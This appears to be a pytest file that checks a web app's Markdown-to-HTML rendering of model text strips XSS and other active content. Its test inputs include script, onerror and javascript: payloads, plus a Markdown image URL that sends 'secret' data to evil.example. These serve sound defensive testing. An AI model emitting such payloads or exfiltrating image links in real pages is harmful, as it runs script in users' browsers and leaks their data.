"""Model text is rendered as Markdown with raw HTML off, then sanitised."""

import re
from html.parser import HTMLParser

import pytest

from tests.xss_corpus import PAYLOADS
from webapp.rendering import markdown_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![exfiltrate](https://evil.example/x.png?data=secret)",
    "[click](javascript:alert(1))",
    '<a href="#" onclick="alert(1)">x</a>',
    "<svg onload=alert(1)></svg>",
    "<iframe src=https://evil.example></iframe>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]


class ElementCollector(HTMLParser):
    """Collects every element and attribute the browser would build from the HTML."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def active_content(html: str) -> list:
    collector = ElementCollector()
    collector.feed(html)
    found = collector.tags & {"script", "img", "svg", "iframe", "object", "embed", "style"}
    found |= {name for name, _ in collector.attributes if name.startswith("on")}
    found |= {
        value
        for name, value in collector.attributes
        if name in ("href", "src") and not value.startswith(("https:", "http:", "mailto:"))
    }
    return sorted(found)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_active_content_survives(text):
    assert active_content(markdown_to_html(text)) == []


def test_the_checker_sees_active_content():
    assert active_content('<img src=x onerror=alert(1)><a href="javascript:x">') == [
        "img",
        "javascript:x",
        "onerror",
        "x",
    ]


def test_markdown_is_rendered():
    html = markdown_to_html("**bold** and `code`\n\n- one\n- two")
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<li>one</li>" in html


def test_links_are_kept_safe():
    html = markdown_to_html("[docs](https://example.org/docs)")
    assert 'href="https://example.org/docs"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


FORMATTING_TAGS = {
    "p", "br", "hr", "em", "strong", "code", "pre", "blockquote", "a",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td", "del", "span",
}  # fmt: skip
INERT_ATTRIBUTES = {"href", "title", "rel", "start", "align", "class"}
INERT_CLASS = re.compile(r"^(language-\S+|[a-z][a-z0-9]{0,3})$")
"""A fence's language, or one of Pygments' short token classes: nothing styled by the app's
own rules."""
URL_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]*):")


class RenderedText(ElementCollector):
    """Also collects the text the browser would show."""

    def __init__(self):
        super().__init__()
        self.text = []

    def handle_data(self, data):
        self.text.append(data)


def scheme_of(url: str) -> str | None:
    """The scheme a browser reads in ``url`` (it ignores spaces and control characters)."""
    found = URL_SCHEME.match(re.sub(r"[\x00-\x20]", "", url))
    return found[1].lower() if found else None


def test_the_corpus_is_large_and_distinct():
    assert len(PAYLOADS) >= 50
    assert len({payload.text for payload in PAYLOADS}) == len(PAYLOADS)


@pytest.mark.parametrize(
    "payload", PAYLOADS, ids=lambda payload: f"{payload.number}-{payload.kind}"
)
def test_corpus_payload_renders_as_text_and_formatting(payload):
    """The browser test's payloads, without the browser: only formatting survives, links go
    nowhere but the web or mail, and the payload still shows (so nothing passes by vanishing)."""
    rendered = RenderedText()
    rendered.feed(markdown_to_html(payload.text))
    rendered.close()
    assert rendered.tags <= FORMATTING_TAGS
    assert {name for name, _ in rendered.attributes} <= INERT_ATTRIBUTES
    classes = [value for name, value in rendered.attributes if name == "class"]
    assert all(INERT_CLASS.match(value) for value in classes), classes
    links = [value for name, value in rendered.attributes if name == "href"]
    assert all(scheme_of(link) in (None, "http", "https", "mailto") for link in links), links
    assert " ".join(payload.shown.split()) in " ".join("".join(rendered.text).split())


def test_the_scheme_check_reads_urls_as_a_browser_does():
    assert scheme_of(" java\tscript:alert(1)") == "javascript"
    assert scheme_of("DATA:text/html,x") == "data"
    assert scheme_of("%E2%80%8Bjavascript:alert(1)") is None
    assert scheme_of("/c/abc") is None


def test_code_blocks_are_highlighted_on_the_server_and_stay_inert():
    html = markdown_to_html("```python\ndef greet(name):\n    return '<b>' + name\n```")
    assert '<code class="language-python">' in html
    assert '<span class="k">def</span>' in html  # a keyword, as Pygments classes it
    assert '<span class="nf">greet</span>' in html
    assert "&lt;b&gt;" in html and "<b>" not in html  # code is text, highlighted or not


def test_a_block_in_a_language_nobody_knows_is_plain_escaped_text():
    html = markdown_to_html("```klingon\n<script>alert(1)</script>\n```")
    assert html.startswith('<pre><code class="language-klingon">&lt;script&gt;')
    assert "<span" not in html
